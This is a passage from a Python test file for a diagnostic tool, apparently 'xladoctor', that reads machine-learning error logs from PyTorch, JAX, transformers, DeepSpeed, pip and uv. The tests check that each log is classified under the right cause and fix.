        # JAX's message goes on after the path: the path is still read
        ("TypeError: Error interpreting argument to <function step at 0x7f0> as an abstract array. The problematic value is of type <class 'str'> and was passed to the function at path mode.\nThis typically means that a jit-wrapped function was called with a non-array argument, and this argument was not marked as static using the static_argnums or static_argnames parameters of jax.jit.\n", "user-code-error:not_an_array_given_to_jax", "(at mode)"),
        # torch.compile's wrapper carries the error: the compiled reading; an op named *_backward: a double backward
        ("torch._dynamo.exc.BackendCompilerFailed: backend='aot_eager' raised:\nRuntimeError: derivative for aten::heaviside is not implemented\n", "unsupported-op:no_derivative_formula", "torch.compile traced a backward graph"),
        ("RuntimeError: derivative for aten::_scaled_dot_product_efficient_attention_backward is not implemented\n", "unsupported-op:no_derivative_formula", "A second-order gradient"),
        # micro x acc of 1 divides every size: no process count is read from it
        ("AssertionError: Check batch related parameters. train_batch_size is not equal to micro_batch_per_gpu * gradient_acc_step * world_size 32 != 1 * 1 * 2\n", "bad-configuration:deepspeed_batch_sizes_do_not_multiply", "world_size 2 (= 2). Set train_batch_size"),
        # transformers 4.3x's words, and a cast of a GPTQ model
        ("ValueError: Calling `cuda()` is not supported for `4-bit` or `8-bit` quantized models. Please use the model as it is\n", "user-code-error:quantized_model_moved_or_cast", "from_pretrained(..., device_map=..."),
        ("ValueError: You cannot cast a GPTQ model in a new `dtype`. Make sure to load the model using `from_pretrained` using the desired `dtype` by passing the correct `torch_dtype` argument.\n", "user-code-error:quantized_model_moved_or_cast", "torch_dtype=..."),
        # a train size that is the product for another process count, on a job of several
        ("AssertionError: Check batch related parameters. train_batch_size is not equal to micro_batch_per_gpu * gradient_acc_step * world_size 16 != 2 * 1 * 4\n", "bad-configuration:deepspeed_batch_sizes_do_not_multiply", "the product for 8 processes, and this job has 4: the configuration"),
        # question answering's labels are its two positions: no "no labels" said of them
        ("ValueError: The model did not return a loss from the inputs, only the following keys: start_logits,end_logits. For reference, the inputs it received are input_ids,start_positions,end_positions.\n", "user-code-error:trainer_batch_without_labels", "(it returned only start_logits,end_logits). A model"),
        # transformers 5's words for an 8-bit model's move: the bitsandbytes release it needs, pasted
        ("ValueError: You need to install `pip install bitsandbytes>=0.48.0` if you want to move a 8-bit model across devices using to().\n", "user-code-error:quantized_model_moved_or_cast", "only with bitsandbytes 0.48.0 or newer"),
        ("ValueError: `.half()` is not supported for quantized model. Please use the model as it is, since the model has already been casted to the correct `dtype`.\n", "user-code-error:quantized_model_moved_or_cast", "a later .to(), .cuda(), .half() or .float() of it is refused"),
        ("ValueError: `.cuda` is not supported for HQQ-quantized models.\n", "user-code-error:quantized_model_moved_or_cast", "bitsandbytes, GPTQ or HQQ"),
        # a raw text column that reached the collator; labels left unpadded
        ("ValueError: Unable to create tensor, you should probably activate truncation and/or padding with 'padding=True' 'truncation=True' to have batched tensors with the same length. Perhaps your features (`text` in this case) have excessive nesting (inputs type `list` where type `int` is expected).\n", "user-code-error:tokenized_batch_of_unequal_lengths", "dataset.remove_columns(['text'])"),
        ("ValueError: Unable to create tensor, you should probably activate truncation and/or padding with 'padding=True' 'truncation=True' to have batched tensors with the same length. Perhaps your features (`labels` in this case) have excessive nesting (inputs type `list` where type `int` is expected).\n", "user-code-error:tokenized_batch_of_unequal_lengths", "DataCollatorForSeq2Seq, which pads labels with -100"),
        # an empty weight: a sharded save never gathered (accelerate's older "this look incorrect"); a packed 4-bit one
        ('ValueError: Trying to set a tensor of shape torch.Size([0]) in "weight" (which has shape torch.Size([4096, 4096])), this look incorrect.\n', "user-code-error:checkpoint_shape_not_the_models", "stage3_gather_16bit_weights_on_model_save"),
        ('ValueError: Trying to set a tensor of shape torch.Size([8388608, 1]) in "weight" (which has shape torch.Size([4096, 4096])), this looks incorrect.\n', "user-code-error:checkpoint_shape_not_the_models", "packed 4-bit"),
        # transformers 5's words for weights spilled to disk
        ("ValueError: The current `device_map` had weights offloaded to the disk, which needed to be re-saved. This is either because the weights are not in `safetensors` format, or because the model uses an internal weight format different than the one saved (i.e. most MoE models). Please provide an `offload_folder` for them in `from_pretrained`.\n", "out-of-memory:weights_spill_to_disk", "the GPUs are seen and free"),
        # the labels reached the model: the class has no head that computes a loss, not a batch without labels
        ("ValueError: The model did not return a loss from the inputs, only the following keys: last_hidden_state. For reference, the inputs it received are input_ids,labels.\n", "user-code-error:trainer_batch_without_labels", "it returned only last_hidden_state). A model"),
    ],
)  # fmt: skip
def test_another_wording_of_a_known_failure_is_read_by_its_rule(log: str, rule_id: str, word: str) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.decided_by == rule_id, diagnosis
    assert word in diagnosis.cause, diagnosis.cause


def test_a_keyword_refused_by_a_function_called_by_its_own_name_is_not_read_as_an_aliased_library() -> None:
    # the user's own function, called by the name Python's message gives: their typo or their signature
    log = "Traceback (most recent call last):\n  File \"/home/me/train.py\", line 9, in <module>\n    y = blend(a, b, scale=2)\nTypeError: blend() got an unexpected keyword argument 'scale'\n"
    diagnosis = _diagnose(log)
    assert diagnosis is None or "under the name" not in diagnosis.cause, diagnosis


_USERS_OWN_KEYWORD_LOGS = [
    # a class of the user's, refused in its constructor (Python 3.9's words, and 3.10's with the class named)
    'Traceback (most recent call last):\n  File "/home/me/train.py", line 9, in <module>\n    ds = MyDataset(root, augment=True)\nTypeError: __init__() got an unexpected keyword argument \'augment\'\n',
    'Traceback (most recent call last):\n  File "/home/me/train.py", line 9, in <module>\n    ds = SegDataset(root, augment=True)\nTypeError: BaseDataset.__init__() got an unexpected keyword argument \'augment\'\n',
    # a module of the user's, called through __call__ into forward()
    'Traceback (most recent call last):\n  File "/home/me/train.py", line 9, in <module>\n    out = net(x, labels=y)\nTypeError: forward() got an unexpected keyword argument \'labels\'\n',
]  # fmt: skip


@pytest.mark.parametrize("log", _USERS_OWN_KEYWORD_LOGS, ids=["constructor", "base-constructor", "forward"])
def test_a_keyword_refused_by_the_users_own_class_is_not_an_aliased_library(log: str) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.verdict != "environment", diagnosis


def test_a_compute_capability_said_without_a_refusal_is_no_gpu_verdict() -> None:
    log = "Detected GPU NVIDIA A100 with compute capability 8.0 or higher; enabling TF32\n" + tb(
        "IndexError: list index out of range"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family != "gpu-arch-unsupported", diagnosis


def test_a_models_remote_code_is_never_handed_to_pip() -> None:
    # transformers_modules is no distribution: a fix naming it would install whatever squats the name on PyPI
    log = (
        'Traceback (most recent call last):\n  File "/home/me/run.py", line 4, in <module>\n    main()\n'
        '  File "/root/.cache/huggingface/modules/transformers_modules/x/y/modeling.py", line 10, in f\n'
        "    raise ValueError(msg)\nValueError: `use_old_cache` has been removed in v2.0.0\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None
    assert not any("transformers_modules" in command for command in (*diagnosis.remediation, *diagnosis.next))


def test_dynamo_running_torchs_own_dependency_is_still_torchs_error() -> None:
    log = (
        'Traceback (most recent call last):\n  File "/home/me/run.py", line 9, in <module>\n    out = f(x)\n'
        '  File "/env/lib/python3.11/site-packages/torch/_dynamo/output_graph.py", line 1071, in c\n    s = simplify(e)\n'
        '  File "/env/lib/python3.11/site-packages/sympy/simplify/simplify.py", line 600, in simplify\n'
        "    expr = sympify(expr)\ntorch._dynamo.exc.InternalTorchDynamoError: RecursionError\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "framework-internal-error", diagnosis


def test_metal_expecting_bfloat16_and_given_float32_is_not_the_bfloat16_gap() -> None:
    log = "MPSGraphExecutable.mm:2565: failed assertion `Incompatible element type for parameter at index 1, mlir module expected element type bf16 but received f32'\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and "bfloat16 only from macOS 14" not in diagnosis.cause, diagnosis


def test_the_notice_of_a_missing_optional_package_is_not_read_in_an_exception() -> None:
    log = tb("RuntimeError: xFormers is not available, but memory_efficient_attention was requested")
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.decided_by != "module-not-found:optional_speedup_missing", diagnosis


def test_four_and_sixteen_channels_outside_a_diffusion_stack_name_no_vae() -> None:
    log = (
        "Traceback (most recent call last):\n"
        '  File "/home/me/seg/train.py", line 50, in <module>\n'
        "    out = model(x)\n"
        '  File "/usr/lib/python3.11/site-packages/segmentation_models_pytorch/decoders/unet/model.py", line 70, in forward\n'
        "    return self.decoder(*features)\n"
        "RuntimeError: Given groups=1, weight of size [64, 16, 3, 3], expected input[8, 4, 32, 32] to have 16 channels, but got 4 channels instead\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.decided_by != "user-code-error:latents_of_another_model_family", (
        diagnosis
    )
    assert "VAE" not in diagnosis.cause


def test_a_command_line_tools_nag_about_its_own_api_version_is_no_version_mismatch() -> None:
    log = "Warning: Looks like you're using an outdated API Version, please consider updating (server 1.6.12 / client 1.5.16)\n"
    diagnosis = _diagnose(log)
    assert diagnosis is None or diagnosis.family != "version-mismatch", diagnosis


@pytest.mark.parametrize(
    "line",
    [
        "AssertionError: SM89 or newer is required for FP8",
        "RuntimeError: SageAttention only supports sm80, sm86, sm89, sm90, sm120 GPUs",
        "ValueError: this kernel needs compute capability 9.0, found 8.6",
        "RuntimeError: gfx1103 is not supported by this build of the kernels",
    ],
)
def test_an_architecture_in_the_words_of_a_refusal_is_the_gpu_not_fitting(line: str) -> None:
    diagnosis = _diagnose(tb(line, "somekernels"))
    assert diagnosis is not None and diagnosis.family == "gpu-arch-unsupported", diagnosis
    assert diagnosis.decided and diagnosis.verdict == "environment"  # a rule's reading, not a likeness guess


@pytest.mark.parametrize(
    "line",
    [
        "RuntimeError: device sm_86 (NVIDIA A10G) ran out of registers in kernel foo",  # named, nothing refused
        "RuntimeError: Flash attention requires sm_80; falling back to the math kernel",  # it went on
    ],
)
def test_an_architecture_named_without_a_refusal_is_not_read_as_one(line: str) -> None:
    diagnosis = _diagnose(tb(line, "somekernels"))
    assert diagnosis is None or diagnosis.decided_by != "gpu-arch-unsupported:architecture_refused", diagnosis


UV_BUILD = (
    "  × Failed to build `flash-attn==2.8.3`\n"
    "  ├─▶ The build backend returned an error\n"
    "  ╰─▶ Call to `setuptools.build_meta:__legacy__.build_wheel` failed (exit status: 1)\n"
    "\n"
    "      [stderr]\n"
    "      Traceback (most recent call last):\n"
    '        File "<string>", line 14, in <module>\n'
    "      ModuleNotFoundError: No module named 'torch'\n"
    "\n"
    "      hint: This usually indicates a problem with the package or the build environment.\n"
)


def test_a_module_missing_inside_the_installers_box_around_a_build_is_the_builds_isolation() -> None:
    # uv's box (crates/uv-build-frontend/src/error.rs) around a build whose frames are only "<string>"
    diagnosis = _diagnose(UV_BUILD)
    assert diagnosis is not None and diagnosis.family == "build-failure", diagnosis
    assert "--no-build-isolation" in diagnosis.cause and diagnosis.params["module"] == "torch"
    # the same error printed by the user's program, no installer around it: the interpreter lacks the module
    alone = _diagnose("\n".join(UV_BUILD.splitlines()[5:8]) + "\n")
    assert alone is not None and alone.family == "module-not-found", alone


def test_the_rules_load_whole_whichever_rule_module_was_imported_first() -> None:
    count = "from xladoctor.explain.rules import load_rules; print([r.id for r in load_rules()])"
    plain = subprocess.run([sys.executable, "-c", count], capture_output=True, text=True, check=True).stdout
    first = "import xladoctor.explain.rules.builds, xladoctor.explain.rules.zz_fallback; " + count
    early = subprocess.run([sys.executable, "-c", first], capture_output=True, text=True, check=True).stdout
    assert early == plain and len(plain) > 1000


@pytest.mark.parametrize(
    ("line", "family", "named"),
    [
        (
            "ImportError: This model requires transformers>=4.45.0, but the installed version is 4.40.2.",
            "version-mismatch",
            "transformers",
        ),
        (
            "ValueError: Unsupported JAX version 0.4.13; jaxlib 0.4.30 requires jax>=0.4.30",
            "version-mismatch",
            "jaxlib",
        ),
        (
            "RuntimeError: Triton 3.0.0 is not compatible with torch 2.6.0; expected triton 3.2.0",
            "version-mismatch",
            "Triton",
        ),
        ("ImportError: peft>=0.14 needed, you have 0.10.0", "version-mismatch", "peft"),
        ("RuntimeError: Expected cuDNN version 8.9.2 but found 9.1.0 at runtime", "cuda-library-mismatch", "cuDNN"),
    ],
)
def test_two_releases_a_check_says_disagree_are_a_mismatch_whoever_wrote_the_check(
    line: str, family: str, named: str
) -> None:
    diagnosis = _diagnose(tb(line, "somelib"))
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == (family, "environment"), diagnosis
    assert diagnosis.decided and named in diagnosis.cause


@pytest.mark.parametrize(
    "line",
    [
        "RuntimeError: model load failed on torch 2.5.1 with CUDA 12.4 (see above)",  # a banner: nothing disagrees
        "UserWarning: Installed CUDA version 11.2 does not match the version torch was compiled with 11.7 but since "
        "the APIs are compatible, accepting this combination",  # a check that went on
    ],
)
def test_releases_named_without_a_disagreement_that_stopped_it_are_not_a_mismatch(line: str) -> None:
    diagnosis = _diagnose(tb(line, "somelib"))
    assert diagnosis is None or diagnosis.decided_by != "version-mismatch:releases_disagree", diagnosis


def test_a_not_implemented_error_from_inside_the_users_call_is_the_called_librarys_gap() -> None:
    native = (
        'Traceback (most recent call last):\n  File "file.py", line 9, in <module>\n'
        "    csr = torch.sparse_csr_tensor(crow, col, values, dtype=torch.float32)\n"
        "NotImplementedError: Could not run 'new_compressed_tensor' from the 'mps:0' device.\n"
    )
    diagnosis = _diagnose(native)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("unsupported-op", "framework-bug")
    assert diagnosis.params["package"] == "torch"
    # the user's own `raise NotImplementedError`: a method of theirs left unwritten
    own = native.replace(
        "    csr = torch.sparse_csr_tensor(crow, col, values, dtype=torch.float32)\n",
        "    raise NotImplementedError('subclasses define forward')\n",
    )
    mine = _diagnose(own)
    assert mine is not None and mine.family == "user-code-error", mine


WEBUI = "stable-diffusion-webui"


def test_an_attribute_looked_up_through_getattr_is_the_callers_and_a_plugin_names_its_host() -> None:
    log = (
        "Traceback (most recent call last):\n"
        f'  File "{WEBUI}\\modules\\scripts.py", line 386, in process\n    script.process(p, *script_args)\n'
        f'  File "{WEBUI}\\extensions\\sd-webui-controlnet\\scripts\\controlnet.py", line 508, in process\n'
        "    model_net.reset()\n"
        f'  File "{WEBUI}\\venv\\lib\\site-packages\\torch\\nn\\modules\\module.py", line 1269, in __getattr__\n'
        "    raise AttributeError(\n"
        "AttributeError: 'PlugableControlModel' object has no attribute 'reset'\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "api-version-skew", diagnosis
    assert diagnosis.params["caller"] == "sd-webui-controlnet" and diagnosis.params["host"] == WEBUI
    assert f"update {WEBUI} and sd-webui-controlnet together" in diagnosis.cause


def test_a_module_of_the_host_application_a_plugin_imports_is_the_hosts_release() -> None:
    log = (
        "Traceback (most recent call last):\n"
        f'  File "E:\\ai\\{WEBUI}\\modules\\scripts.py", line 195, in load_scripts\n'
        "    module = script_loading.load_module(scriptfile.path)\n"
        f'  File "E:\\ai\\{WEBUI}\\extensions\\haku-img\\scripts\\main.py", line 7, in <module>\n'
        "    from modules.ui_components import FormRow\n"
        "ModuleNotFoundError: No module named 'modules.ui_components'\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "api-version-skew", diagnosis
    assert (diagnosis.params["host"], diagnosis.params["caller"]) == (WEBUI, "haku-img")
    assert "pip install" not in " ".join(diagnosis.remediation)
    # a folder of the user's own project named the same: nothing says which release, no host named
    own = log.replace(f"E:\\ai\\{WEBUI}\\modules", "E:\\me\\proj\\modules").replace(
        f"E:\\ai\\{WEBUI}\\extensions\\haku-img", "E:\\me\\proj"
    )
    mine = _diagnose(own)
    assert mine is None or "host" not in mine.params, mine


def test_a_packages_own_module_missing_a_name_its_own_code_uses_is_a_defect_of_that_release() -> None:
    log = (
        "Traceback (most recent call last):\n"
        f'  File "F:\\WBC\\{WEBUI}\\modules\\call_queue.py", line 56, in f\n    res = list(func(*args, **kwargs))\n'
        f'  File "F:\\WBC\\{WEBUI}\\modules\\ui_extensions.py", line 133, in install_extension_from_url\n'
        "    target_dir = os.path.join(extensions.extensions_dir, dirname)\n"
        "AttributeError: module 'modules.extensions' has no attribute 'extensions_dir'\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == (
        "framework-internal-error",
        "framework-bug",
    )
    assert diagnosis.params["package"] == WEBUI
    # the same name asked for by another package's code: that package was written for another release
    across = (
        "Traceback (most recent call last):\n"
        '  File "/venv/lib/python3.11/site-packages/gymnasium/wrappers/jax.py", line 20, in <module>\n'
        "    x = jnp.DeviceArray\n"
        '  File "/venv/lib/python3.11/site-packages/jax/_src/deprecations.py", line 53, in getattr\n'
        "    raise AttributeError(f'module {module!r} has no attribute {name!r}')\n"
        "AttributeError: module 'jax.numpy' has no attribute 'DeviceArray'\n"
    )
    skew = _diagnose(across)
    assert skew is not None and skew.family == "api-version-skew", skew


@pytest.mark.parametrize(
    ("log", "rule_id"),
    [
        ("$ python train.py\nzsh: killed     python train.py\n", "out-of-memory:killed_by_kernel"),
        ("/bin/bash: line 1: 12345 Killed                  python train.py\n", "out-of-memory:killed_by_kernel"),
        ("Bus error (core dumped)\n", "nccl-shm:bus_error_in_nccl"),
        ("Trace/breakpoint trap (core dumped)\n", "framework-internal-error:native_crash_words"),
        ("The specified module could not be found.\n", "missing-library:dll_load_failed"),
    ],
)
def test_a_shells_or_a_systems_own_words_for_a_crash_or_a_kill_are_read(log: str, rule_id: str) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.decided_by == rule_id, diagnosis


def test_a_librarys_own_del_of_an_attribute_it_never_set_is_its_defect() -> None:
    log = (
        "Traceback (most recent call last):\n"
        '  File "/root/train.py", line 192, in <module>\n    model.for_training()\n'
        '  File "/venv/lib/python3.10/site-packages/unsloth/models/llama.py", line 2737, in for_training\n'
        "    del model._unwrapped_old_generate\n"
        '  File "/venv/lib/python3.10/site-packages/torch/nn/modules/module.py", line 2040, in __delattr__\n'
        "    super().__delattr__(name)\n"
        "AttributeError: _unwrapped_old_generate\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == (
        "framework-internal-error",
        "framework-bug",
    )
    assert diagnosis.params["package"] == "unsloth"
    # the same lookup, not a del: a name of another release, as before
    looked_up = log.replace("    del model._unwrapped_old_generate\n", "    g = model._unwrapped_old_generate\n")
    looked_up = looked_up.replace(
        "__delattr__\n    super().__delattr__(name)", "__getattr__\n    raise AttributeError(name)"
    )
    other = _diagnose(looked_up)
    assert other is not None and other.family != "framework-internal-error", other


def test_a_retyped_title_of_pips_message_is_pips_message() -> None:
    log = (
        'Installation Bug: No Matching distribution found for jaxlib==0.4.12+cuda12.cudnn88; extra == "cuda12_local"\n'
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "resolver-conflict", diagnosis
    assert "jaxlib==0.4.12+cuda12.cudnn88" in diagnosis.cause


def test_xlas_nccl_status_is_read_by_ncclss_last_error_not_as_xlas_defect() -> None:
    log = (
        "XlaRuntimeError: INTERNAL: external/xla/xla/service/gpu/nccl_utils.cc:297: NCCL operation "
        "ncclCommInitRank(&comm, nranks, id, rank) failed: unhandled system error. Last NCCL warning(error) log entry "
        "(may be unrelated) 'Error while creating shared memory segment /dev/shm/nccl-ABC (size 9637888)'.\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("nccl-shm", "environment"), diagnosis


def test_a_custom_class_keras_cannot_locate_is_the_users_registration_and_an_xla_typed_one_a_gap() -> None:
    custom = _diagnose(
        tb(
            "TypeError: Could not locate class 'TokenAndPositionEmbedding'. Make sure custom classes are decorated "
            "with `@keras.saving.register_keras_serializable()`. Full object config: {'module': None}",
            "keras/src/saving",
        )
    )
    assert custom is not None and (custom.family, custom.verdict) == ("user-code-error", "not-environment"), custom
    assert "custom_objects" in custom.cause
    lowering = _diagnose(tb("RuntimeError: Expected XLA tensor. Got: XLAIntType", "torch_xla"))
    assert lowering is not None and (lowering.family, lowering.verdict) == ("unsupported-op", "framework-bug")


def test_xlas_older_wording_of_a_driver_older_than_its_ptxas_is_read() -> None:
    line = (
        "2024-05-28 04:48:02.870689: W external/xla/xla/service/gpu/nvptx_compiler.cc:760] The NVIDIA driver's CUDA "
        "version is 12.4 which is older than the ptxas CUDA version (12.5.40). Because the driver is older than the "
        "ptxas version, XLA is disabling parallel compilation, which may slow down compilation.\n"
    )
    diagnosis = _diagnose(line)
    assert diagnosis is not None and diagnosis.family == "cuda-driver-too-old", diagnosis
    assert diagnosis.params["ptxas"] == "12.5"


@pytest.mark.parametrize(
    ("log", "family"),
    [
        (
            "rocBLAS warning: No paths matched /opt/rocm/lib/rocblas/library/*gfx1100*co. Make sure that "
            "ROCBLAS_TENSILE_LIBPATH is set correctly.\n",
            "gpu-arch-unsupported",
        ),
        (
            "torch._dynamo.exc.TorchRuntimeError: Failed running call_function <built-in function linear>(*(FakeTensor("
            "..., size=(2, 16)), Parameter(FakeTensor(..., size=(8, 32), requires_grad=True))), **{}):\n"
            "a and b must have same reduction dim, but got [2, 16] X [32, 8].\n",
            "user-code-error",
        ),
    ],
)
def test_rocblas_finding_no_kernels_and_a_matmul_checked_on_fake_tensors_are_read(log: str, family: str) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == family and diagnosis.decided, diagnosis


def test_the_allocators_words_for_a_process_memory_limit_are_out_of_memory() -> None:
    for log in (
        "torch.OutOfMemoryError: Allocation on device 0 would exceed allowed memory. (out of memory)\n"
        "Currently allocated     : 22.43 GiB\nRequested               : 4.07 GiB\n",
        "CogVideoTextEncode\nAllocation on device \n",  # ComfyUI's dialog: the node, then the message's start
    ):
        diagnosis = _diagnose(log)
        assert diagnosis is not None and diagnosis.family == "out-of-memory", diagnosis


def test_unexpected_keys_that_are_another_models_weights_are_no_wrapped_checkpoint() -> None:
    log = tb(
        'RuntimeError: Error(s) in loading state_dict for Net:\n\tUnexpected key(s) in state_dict: "head.weight", '
        '"head.bias", "epoch".',
        "torch/nn/modules",
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.decided_by != "user-code-error:checkpoint_wraps_its_weights"


def test_a_toml_file_that_does_not_parse_is_its_text_not_the_parser() -> None:
    diagnosis = _diagnose(tb("tomllib.TOMLDecodeError: Invalid value (at line 3, column 7)", "tomllib"))
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("user-code-error", "not-environment")
    assert "at line 3, column 7" in diagnosis.cause and diagnosis.params["format"] == "TOML"


def test_a_parameter_given_twice_is_a_release_question_only_where_a_library_or_a_framework_made_the_call() -> None:
    bare = _diagnose("TypeError: torch.distributed.distributed_c10d.init_process_group() got multiple values for "
                     "keyword argument 'backend'\n")  # fmt: skip
    assert bare is not None and bare.decided_by == "api-version-skew:multiple_values_for_argument", bare
    assert bare.params["package"] == "torch" and bare.confidence < 0.6
    # the user's own call of a function of their own: their argument order, no release to blame
    own = (
        'Traceback (most recent call last):\n  File "/home/me/train.py", line 9, in <module>\n'
        "    run(cfg, 3, mode='x')\nTypeError: run() got multiple values for argument 'mode'\n"
    )
    diagnosis = _diagnose(own)
    assert diagnosis is None or diagnosis.decided_by != "api-version-skew:multiple_values_for_argument", diagnosis


def test_a_pickle_of_the_saving_scripts_own_class_is_the_loading_scripts_to_define() -> None:
    log = tb("AttributeError: Can't get attribute 'Net' on <module '__main__' from '/home/me/load.py'>", "torch")
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("user-code-error", "not-environment")
    # a project's own module, not an installed package: the checkpoint and the code are of two versions of it
    project = _diagnose(tb("AttributeError: Can't get attribute 'DetectionModel' on <module 'models.yolo' from "
                           "'/home/me/yolov5/models/yolo.py'>", "torch"))  # fmt: skip
    assert project is not None and project.family == "api-version-skew" and project.params["package"] == "models"
    assert project.confidence < 0.75
    # a project's folder named like a package, as the message's own path shows: the project's, not the package's
    named = _diagnose("AttributeError: Can't get attribute 'VOCDataset' on <module 'datasets.voc' from "
                      "'/home/u/ssd/datasets/voc.py'>\n")  # fmt: skip
    assert named is not None and named.confidence < 0.75 and "upgrade" not in named.cause
    # a spawned worker (DataLoader num_workers > 0 on Windows and macOS) sent an object of the main script's class
    worker = _diagnose("AttributeError: Can't get attribute 'MyDataset' on <module '__main__' (built-in)>\n")
    assert worker is not None and worker.family == "user-code-error" and "num_workers=0" in worker.cause


def test_lightning_refusing_a_scheduler_of_its_own_is_said_both_ways() -> None:
    message = (
        "MisconfigurationException: The provided lr scheduler `{}` doesn't follow PyTorch's LRScheduler API. You "
        "should override the `LightningModule.lr_scheduler_step` hook with your own logic if you are using a custom "
        "LR scheduler."
    )
    own = _diagnose(
        tb("pytorch_lightning.utilities.exceptions." + message.format("WarmupLR"), "pytorch_lightning/core")
    )
    assert own is not None and own.family == "api-version-skew" and own.confidence < 0.85
    assert "lr_scheduler_step" in own.cause and not own.remediation
    # Fabric is Lightning 1.9 or newer, which knows torch 2's schedulers: only a scheduler of another kind fails there
    fabric = _diagnose(tb("lightning_fabric.utilities.exceptions." + message.format("LambdaLR"), "lightning/pytorch"))
    assert fabric is not None and (fabric.family, fabric.verdict) == ("user-code-error", "not-environment")
    # the unified distribution's frames: its own name is the one to install
    unified = _diagnose(tb("lightning_lite.utilities.exceptions." + message.format("StepLR"), "lightning/pytorch/core"))
    assert unified is not None and any("lightning>=1.8.4,<1.9" in line for line in unified.remediation)
    assert not any("pytorch-lightning" in line for line in unified.remediation)


def test_an_in_place_write_into_an_expanded_view_is_the_writers_not_an_unsupported_op() -> None:
    log = tb(
        "RuntimeError: unsupported operation: more than one element of the written-to tensor refers to a single "
        "memory location. Please clone() the tensor before performing the operation.",
        "torch/nn/functional",
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("user-code-error", "not-environment")
    assert "expand()ed" in diagnosis.cause


def test_uv_finding_no_torch_wheel_for_an_intel_mac_says_where_torch_stops() -> None:
    log = (
        "  × No solution found when resolving dependencies:\n"
        "  ╰─▶ Because only torch<=2.7.1 is available and torch>=2.7.0 has no wheels with a matching platform tag "
        "(e.g., `macosx_13_0_x86_64`), we can conclude that torch>=2.7.0 cannot be used.\n"
        "      And because you require torch>=2.7.0, we can conclude that your requirements are unsatisfiable.\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.decided_by == "resolver-conflict:no_wheel_for_this_platform"
    assert diagnosis.params["requirement"] == "torch>=2.7.0" and diagnosis.params["tag"] == "macosx_13_0_x86_64"
    assert "2.2.2" in diagnosis.cause and "Rosetta" in diagnosis.cause
    # another package, another tag: the general reading, with the tag uv gave
    other = _diagnose(log.replace("torch", "vllm").replace("macosx_13_0_x86_64", "win_amd64"))
    assert other is not None and "win_amd64" in other.cause and "2.2.2" not in other.cause


def test_a_cuda_calls_check_in_a_librarys_cpp_is_read_by_the_runtimes_string() -> None:
    log = (
        "terminate called after throwing an instance of 'std::runtime_error'\n"
        "  what():  /src/tiny-cuda-nn/include/tiny-cuda-nn/multi_stream.h:83 cudaEventRecord(m_event, m_stream) "
        "failed with error an illegal memory access was encountered\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "cuda-illegal-access", diagnosis
    nested = _diagnose(log.replace("cudaEventRecord(m_event, m_stream)", "cudaMemcpyAsync(d, s, n * sizeof(float), k)"))
    assert nested is not None and nested.family == "cuda-illegal-access", nested
    # another library's "failed with error" and words of no CUDA error: not read as one
    other = _diagnose("what():  cudaMemcpy(dst, src) failed with error the disk was full\n")
    assert other is None or other.decided_by != "cuda-error:cuda_error_string"


def test_uv_syncing_a_lock_file_on_an_intel_mac_is_read_by_the_tag_its_hint_gives() -> None:
    log = (
        "error: Distribution `torch==2.5.1 @ registry+https://pypi.org/simple` can't be installed because it doesn't "
        "have a source distribution or wheel for the current platform\n\n"
        "hint: You're on macOS (`macosx_14_0_x86_64`), but `torch` (v2.5.1) only has wheels for the following "
        "platforms: `manylinux1_x86_64`, `macosx_11_0_arm64`, `win_amd64`\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.params["tag"] == "macosx_14_0_x86_64" and "2.2.2" in diagnosis.cause
    assert "macosx_11_0_arm64" in diagnosis.cause
    # another package's hint, wrapped over two lines, is not said of this one
    other = (
        "  × No solution found when resolving dependencies:\n"
        "  ╰─▶ Because mlx==0.4.30 has no wheels with a matching platform tag (e.g., `manylinux_2_35_x86_64`), we can "
        "conclude that mlx==0.4.30 cannot be used.\n"
        "      hint: Wheels are available for `jaxlib` (v0.4.30) on the\n      following platforms: `macosx_11_0_arm64`\n"
    )
    read = _diagnose(other)
    assert read is not None and "manylinux_2_35_x86_64" in read.cause and "macosx_11_0_arm64" not in read.cause


def test_an_invalid_device_ordinal_is_the_codes_when_the_log_shows_the_code_that_names_the_gpu() -> None:
    shown = (
        'Traceback (most recent call last):\n  File "/home/me/train.py", line 9, in <module>\n'
        '    x = x.to("cuda:1")\nRuntimeError: CUDA error: invalid device ordinal\n'
    )
    for log in (shown, "`torch.cuda.set_device(rank)` reports an error `cuda error: invalid device ordinal`\n"):
        diagnosis = _diagnose(log)
        assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == ("user-code-error", "not-environment")
        assert "LOCAL_RANK" in diagnosis.cause
    # no code shown: the launch (processes per node, CUDA_VISIBLE_DEVICES) is as likely, and said first
    bare = _diagnose("RuntimeError: CUDA error: invalid device ordinal\n")
    assert bare is not None and bare.family == "bad-configuration"


_OPTIONAL_IMPORT = (
    "Traceback (most recent call last):\n"
